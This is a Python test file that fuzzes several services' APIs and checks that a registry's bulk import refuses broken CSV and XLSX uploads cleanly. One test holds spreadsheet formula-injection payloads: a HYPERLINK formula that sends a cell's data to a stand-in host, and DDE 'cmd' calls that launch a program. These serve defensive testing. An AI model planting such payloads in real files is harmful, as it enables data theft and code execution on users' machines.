"""Bad input, from anyone: every service's OpenAPI fuzzed with schemathesis, and broken files sent to the
registry's bulk import. Bad input must get a 4xx that names the problem, never a 5xx, and lose nothing.

Each service runs in-process as an ASGI app against its own fresh database, its own topic namespace and the
real broker; schemathesis drives it (and starts/stops its lifespan on its own event loop thread).
"""

import asyncio
import csv
import io
import random
import time
import zipfile
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import Any
from uuid import UUID

import httpx
import pytest
import pytest_asyncio
import schemathesis
from aiokafka.admin import AIOKafkaAdminClient, NewTopic
from berdaya_shared.messaging import MessagingSettings
from berdaya_shared.topics import EVENT_TOPIC_PARTITIONS, EVENT_TOPICS, MONITORING_INDICATORS, dlq_topic, physical
from fastapi import FastAPI
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from schemathesis.generation import GenerationMode
from schemathesis.python import asgi as schemathesis_asgi

from tests.registry.helpers import woman_body
from tests.support import infra
from tests.support.auth import all_scopes
from tests.support.kafka import unique

SERVICES = ("registry", "training", "marketplace", "monitoring")
MAX_EXAMPLES = 25  # per operation, positive and negative cases mixed
# The OPD whose token (holding every scope) calls each service.
CALLER_OPD = {"registry": "dp3a", "training": "distransnaker", "marketplace": "disperindag", "monitoring": "dp3a"}
# Operations left out, and why:
EXCLUDED = {
    # A server-sent-event stream: it never ends by design, so a request to it never returns.
    ("GET", "/api/stream"),
}


async def create_topics(bootstrap: str, namespace: str) -> None:
    admin = AIOKafkaAdminClient(bootstrap_servers=bootstrap)
    await admin.start()
    try:
        topics = [NewTopic(physical(t, namespace), EVENT_TOPIC_PARTITIONS, 1) for t in (*EVENT_TOPICS, MONITORING_INDICATORS)]
        topics += [NewTopic(physical(dlq_topic(s), namespace), 1, 1) for s in ("training", "marketplace", "monitoring")]
        await admin.create_topics(topics)
    finally:
        await admin.close()


def build_app(service: str, database_url: str, bootstrap: str, namespace: str) -> FastAPI:
    messaging = MessagingSettings(kafka_bootstrap_servers=bootstrap, topic_namespace=namespace,
                                  relay_poll_interval_s=0.2, consumer_batch_timeout_ms=50)
    if service == "registry":
        from registry.bootstrap import create_app
        from registry.config import Settings
    elif service == "training":
        from training.bootstrap import create_app
        from training.config import Settings
    elif service == "marketplace":
        from marketplace.bootstrap import create_app
        from marketplace.config import Settings
    else:
        from monitoring.bootstrap import create_app
        from monitoring.config import Settings
    return create_app(Settings(database_url=database_url, messaging=messaging), group_id=unique("g"))


@dataclass
class Summary:
    service: str
    operations: int = 0
    cases: int = 0
    statuses: dict[int, int] = field(default_factory=dict)
    server_errors: list[str] = field(default_factory=list)
    seconds: float = 0.0

    def line(self) -> str:
        spread = " ".join(f"{k}x{v}" for k, v in sorted(self.statuses.items()))
        return (f"schemathesis {self.service}: {self.operations} operations, {self.cases} cases, "
                f"server errors = {len(self.server_errors)} ({self.seconds:.0f} s; statuses {spread})")


@pytest_asyncio.fixture(params=SERVICES, loop_scope="session")
async def fuzzed(request: pytest.FixtureRequest, kafka_bootstrap: str,
                 database_server_url: str) -> AsyncIterator[tuple[str, FastAPI]]:
    """A service app (not started: schemathesis runs its lifespan) over a fresh database and namespace."""
    service = request.param
    namespace = unique("fz").lower()
    await create_topics(kafka_bootstrap, namespace)
    url = await infra.create_database(database_server_url, prefix="fz")
    app = build_app(service, url, kafka_bootstrap, namespace)
    try:
        yield service, app
    finally:
        # The lifespan runs on schemathesis' own loop thread: stop it there before dropping the database.
        await asyncio.to_thread(schemathesis_asgi.shutdown_lifespans)
        await infra.drop_database(database_server_url, url)


def fuzz_operation(operation: Any, send: Callable[[Any], None]) -> None:
    strategies = []
    for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
        try:
            strategies.append(operation.as_strategy(generation_mode=mode))
        except Exception:  # noqa: BLE001 (an operation with nothing to make invalid has no negative cases)
            continue

    @settings(max_examples=MAX_EXAMPLES, deadline=None, database=None, derandomize=True,
              suppress_health_check=list(HealthCheck), phases=[Phase.explicit, Phase.generate])
    @given(case=st.one_of(strategies))
    def run(case: Any) -> None:
        send(case)

    run()


# schemathesis' own strategies draw from `random` internally; not this test's concern.
@pytest.mark.filterwarnings("ignore::hypothesis.errors.HypothesisDeprecationWarning")
def test_schemathesis_finds_no_server_error(fuzzed: tuple[str, FastAPI]) -> None:
    service, app = fuzzed
    started = time.monotonic()
    headers = all_scopes(CALLER_OPD[service]) | {"X-Purpose": "pengujian masukan buruk"}
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    summary = Summary(service)

    for result in schema.get_all_operations():
        operation = result.ok()
        if (operation.method.upper(), operation.path) in EXCLUDED:
            continue
        summary.operations += 1

        def send(case: Any, operation: Any = operation) -> None:
            response = case.call(headers=headers, timeout=60)
            summary.cases += 1
            summary.statuses[response.status_code] = summary.statuses.get(response.status_code, 0) + 1
            if response.status_code >= 500:
                summary.server_errors.append(
                    f"{operation.method.upper()} {operation.path} -> {response.status_code}: {response.text[:300]}\n"
                    f"    {case.as_curl_command()}")

        fuzz_operation(operation, send)
    summary.seconds = time.monotonic() - started
    print("\n" + summary.line())
    for failure in summary.server_errors[:20]:
        print("  " + failure)
    assert summary.operations > 5 and summary.cases > summary.operations
    assert not summary.server_errors, "\n".join(summary.server_errors[:20])


# --- broken files sent to the registry's bulk import ---------------------------------------------------------

HEADER = "nik,nama,tanggal_lahir,telepon,kecamatan,kode_desa,jumlah_anggota_keluarga,kategori_pekka"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
rng = random.Random(20261128)


@dataclass
class Registry:
    client: httpx.AsyncClient
    app: FastAPI

    async def counts(self) -> tuple[int, int, int, int]:
        """women, outbox rows, imports, import error rows: what a refused file must leave unchanged."""
        async with self.app.state.runtime.pool.acquire() as conn:
            row = await conn.fetchrow(
                "SELECT (SELECT count(*) FROM women) w, (SELECT count(*) FROM outbox) o,"
                " (SELECT count(*) FROM imports) i, (SELECT count(*) FROM import_errors) e")
            return row["w"], row["o"], row["i"], row["e"]

    async def upload(self, name: str, data: bytes | Any, content_type: str = "text/csv") -> httpx.Response:
        return await self.client.post("/women/imports", files={"file": (name, data, content_type)})


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def registry(kafka_bootstrap: str, database_server_url: str) -> AsyncIterator[Registry]:
    """A started registry (own database and topic namespace, real broker) with a small import limit."""
    namespace = unique("fzi").lower()
    await create_topics(kafka_bootstrap, namespace)
    url = await infra.create_database(database_server_url, prefix="fzi")
    app = build_app("registry", url, kafka_bootstrap, namespace)
    try:
        async with app.state.runtime.lifespan():
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t", timeout=120,
                                         headers=all_scopes("dp3a") | {"X-Purpose": "pengujian masukan buruk"}) as c:
                yield Registry(c, app)
    finally:
        await infra.drop_database(database_server_url, url)


def good_rows(count: int) -> list[list[str]]:
    rows = []
    for _ in range(count):
        body = woman_body(rng)
        rows.append([body["nik"], body["full_name"], body["birth_date"], body["phone"], body["kecamatan_code"],
                     body["desa_code"], str(body["household_size"]), body["pekka_category"]])
    return rows


def csv_bytes(header: str, rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for row in rows:
        writer.writerow(row)
    return (header + "\n" + out.getvalue()).encode()


def refusal(response: httpx.Response, status: int) -> dict[str, Any]:
    """A clean refusal: the status, an Indonesian message, the English detail, the field named."""
    assert response.status_code == status, (response.status_code, response.text[:500])
    body = response.json()
    assert body["pesan"] and body["detail"], body
    assert body["kesalahan"][0]["field"] == "file", body
    return body


BROKEN: list[tuple[str, str, Callable[[], bytes], str, int, str]] = [
    # (case, filename, content, content type, status, words the message must contain)
    ("missing required columns", "daftar.csv", lambda: b"nama,tanggal_lahir,kecamatan\nSiti Aminah,1990-01-01,64.02.06\n",
     "text/csv", 422, "kolom wajib tidak ditemukan: nik, jumlah_anggota_keluarga"),
    ("unknown column (a typo would lose its data)", "daftar.csv",
     lambda: csv_bytes(HEADER + ",telpon_rumah,alamat", [r + ["0541", "Jl. Mawar"] for r in good_rows(3)]),
     "text/csv", 422, "kolom tidak dikenal: telpon_rumah, alamat"),
    ("the same column twice", "daftar.csv", lambda: csv_bytes(HEADER + ",NIK", [r + ["1"] for r in good_rows(3)]),
     "text/csv", 422, "kolom ganda: NIK"),
    ("data under an untitled column", "daftar.csv",
     lambda: csv_bytes(HEADER, [*good_rows(2), [*good_rows(1)[0], "tanpa judul"]]), "text/csv", 422,
     "Baris 4 berisi data di kolom ke-9"),
    ("empty file (0 bytes)", "daftar.csv", lambda: b"", "text/csv", 422, "Berkas kosong"),
    ("header only", "daftar.csv", lambda: (HEADER + "\n").encode(), "text/csv", 422, "hanya baris judul"),
    ("header and blank lines only", "daftar.csv", lambda: (HEADER + "\n,,,,,,,\n\n").encode(), "text/csv", 422,
     "hanya baris judul"),
    ("empty xlsx sheet", "daftar.xlsx", lambda: xlsx_bytes([]), XLSX_TYPE, 422, "Berkas kosong"),
    ("xlsx header only", "daftar.xlsx", lambda: xlsx_bytes([HEADER.split(",")]), XLSX_TYPE, 422, "hanya baris judul"),
    ("binary garbage named .csv", "daftar.csv", lambda: random.Random(1).randbytes(64 * 1024), "text/csv", 422,
     "bukan CSV atau XLSX"),
    ("binary garbage named .xlsx", "daftar.xlsx", lambda: random.Random(2).randbytes(64 * 1024), XLSX_TYPE, 422,
     "bukan XLSX"),
    ("garbage inside a zip header named .xlsx", "daftar.xlsx",
     lambda: b"PK\x03\x04" + random.Random(3).randbytes(64 * 1024), XLSX_TYPE, 422, "XLSX tidak bisa dibaca"),
    ("a zip that is not a workbook", "daftar.xlsx", lambda: zip_bytes(), XLSX_TYPE, 422, "XLSX tidak bisa dibaca"),
    ("a CSV renamed .xlsx", "daftar.xlsx", lambda: csv_bytes(HEADER, good_rows(2)), XLSX_TYPE, 422, "bukan XLSX"),
    ("a CSV line past the field size limit half-way", "daftar.csv",
     lambda: csv_bytes(HEADER, good_rows(1500)) + b'"' + b"x" * 200_000 + b'"\n', "text/csv", 422,
     "CSV rusak"),
]


def xlsx_bytes(rows: list[list[Any]], formulas: bool = False) -> bytes:
    """A workbook of text cells (text that looks like a formula stays text), or with ``formulas`` such text
    written as real formula cells (saved with no computed value, as a script would write them)."""
    book = Workbook()
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = book.active.cell(r, c, value)
            if isinstance(value, str) and not formulas:
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("catatan.txt", "bukan lembar kerja")
    return out.getvalue()


@pytest.mark.parametrize("case", BROKEN, ids=[c[0] for c in BROKEN])
async def test_a_broken_file_is_refused_whole_with_a_reason(registry: Registry, case: tuple) -> None:
    name, filename, content, content_type, status, words = case
    before = await registry.counts()
    response = await registry.upload(filename, content(), content_type)
    body = refusal(response, status)
    print(f"\n  import {name}: {response.status_code} {body['pesan']!r} ({body['detail']})")
    assert words.casefold() in body["pesan"].casefold(), body["pesan"]
    assert await registry.counts() == before  # nothing registered, no event staged, no import recorded


async def test_a_file_over_the_size_limit_is_refused_unread(registry: Registry) -> None:
    limit = registry.app.state.settings.import_max_bytes
    before = await registry.counts()
    # A list of (well-formed) rows just over the limit: refused by its size, before any of it is parsed.
    head, body = csv_bytes(HEADER, good_rows(200)).split(b"\n", 1)
    big = head + b"\n" + body * (limit // len(body) + 1)
    assert len(big) > limit >= 50 * 10**6
    started = time.monotonic()
    response = await registry.upload("daftar-besar.csv", big)
    body = refusal(response, 413)
    print(f"\n  import {len(big) / 2**20:.0f} MB file: {response.status_code} {body['pesan']!r} "
          f"({time.monotonic() - started:.1f} s)")
    assert "50 MB" in body["pesan"] and body["max_bytes"] == limit
    # Sent without a Content-Length (chunked), the body is cut off at the limit with the same answer.
    async def chunks() -> AsyncIterator[bytes]:
        yield (b'--b\r\nContent-Disposition: form-data; name="file"; filename="daftar.csv"\r\n'
               b"Content-Type: text/csv\r\n\r\n")
        for _ in range(0, limit + 2**20, 2**20):
            yield b"x" * 2**20

    streamed = await registry.client.post("/women/imports", content=chunks(),
                                          headers={"content-type": "multipart/form-data; boundary=b"})
    assert "content-length" not in streamed.request.headers
    assert refusal(streamed, 413)["pesan"] == body["pesan"]
    assert await registry.counts() == before


async def test_an_unreadable_upload_gets_a_reason(registry: Registry) -> None:
    """Not a file problem but a broken request: still a 4xx with an Indonesian message, nothing stored."""
    before = await registry.counts()
    cases = {
        "garbage multipart": await registry.client.post(
            "/women/imports", content=b"xx--b\r\n\x00", headers={"content-type": "multipart/form-data; boundary=b"}),
        "no file field": await registry.client.post("/women/imports", data={"registered_by_opd": "dp3a"}),
        "json instead of a file": await registry.client.post("/women/imports", json={"file": "daftar.csv"}),
    }
    for name, response in cases.items():
        assert 400 <= response.status_code < 500 and response.json()["pesan"], (name, response.text)
        print(f"\n  import {name}: {response.status_code} {response.json()['pesan']!r}")
    assert await registry.counts() == before


async def test_too_many_rows_are_refused_before_any_is_registered(registry: Registry) -> None:
    settings = registry.app.state.settings
    max_rows, settings.import_max_rows = settings.import_max_rows, 1200
    try:
        before = await registry.counts()
        response = await registry.upload("daftar.csv", csv_bytes(HEADER, good_rows(1201)))
        body = refusal(response, 413)
        print(f"\n  import 1201 rows over a 1200-row limit: {response.status_code} {body['pesan']!r}")
        assert "1200 baris" in body["pesan"]
        assert await registry.counts() == before  # no chunk of 1000 committed before the refusal
    finally:
        settings.import_max_rows = max_rows


FORMULAS = ["=HYPERLINK(\"http://contoh.invalid/?d=\"&A2,\"klik\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "=1+1", "\t=1+1"]


@pytest.mark.parametrize("kind", ["csv", "xlsx", "xlsx-formula-cells"])
async def test_formula_cells_are_refused_per_row_and_the_report_is_inert(registry: Registry, kind: str) -> None:
    header = HEADER.split(",")
    good = good_rows(2)
    bad = []
    for i, formula in enumerate(FORMULAS):
        row = good_rows(1)[0]
        row[(1, 3, 4, 5, 7, 1)[i]] = formula  # name, phone, kecamatan, desa, pekka category, name
        bad.append(row)
    bad.append([*good_rows(1)[0][:1], "-1+1 Siti", *good_rows(1)[0][2:]])  # a name that starts like a formula
    rows = good + bad
    if kind == "csv":
        data, name, content_type = csv_bytes(HEADER, rows), "daftar.csv", "text/csv"
    else:
        data, name, content_type = xlsx_bytes([header, *rows], kind.endswith("formula-cells")), "daftar.xlsx", XLSX_TYPE
    women, outbox, _, _ = await registry.counts()
    response = await registry.upload(name, data, content_type)
    assert response.status_code == 201, response.text
    summary = response.json()
    print(f"\n  import {kind} with formula cells: {response.status_code} registered {summary['registered']}, "
          f"rejected {summary['rejected']}")
    if kind == "xlsx-formula-cells":
        # A real formula cell is read as its computed value (none here), never as formula text: the rows whose
        # required cell it was are refused, a blank optional cell (pekka category) registers the row without it.
        good, bad = good + bad[4:5], bad[:4] + bad[5:]
    assert (summary["registered"], summary["rejected"]) == (len(good), len(bad))
    counts = await registry.counts()
    assert counts[:2] == (women + len(good), outbox + len(good))  # only the clean rows, one event each
    report = await registry.client.get(summary["error_report"]["csv"])
    assert report.status_code == 200
    cells = [c for line in csv.reader(io.StringIO(report.content.decode("utf-8-sig"))) for c in line]
    assert not [c for c in cells if c.startswith(FORMULA_START)], cells
    assert not any("HYPERLINK" in c or "cmd" in c or "SUM" in c for c in cells)  # reasons, never the values
    sheet = load_workbook(io.BytesIO((await registry.client.get(summary["error_report"]["xlsx"])).content)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert values and not [c for c in values if c.data_type == "f" or str(c.value or "").startswith(FORMULA_START)]
    # What was stored for the registered rows is what was typed: no formula got in.
    async with registry.app.state.runtime.pool.acquire() as conn:
        assert await conn.fetchval("SELECT count(*) FROM import_errors WHERE import_ref = $1",
                                   UUID(summary["import_ref"])) >= len(bad)
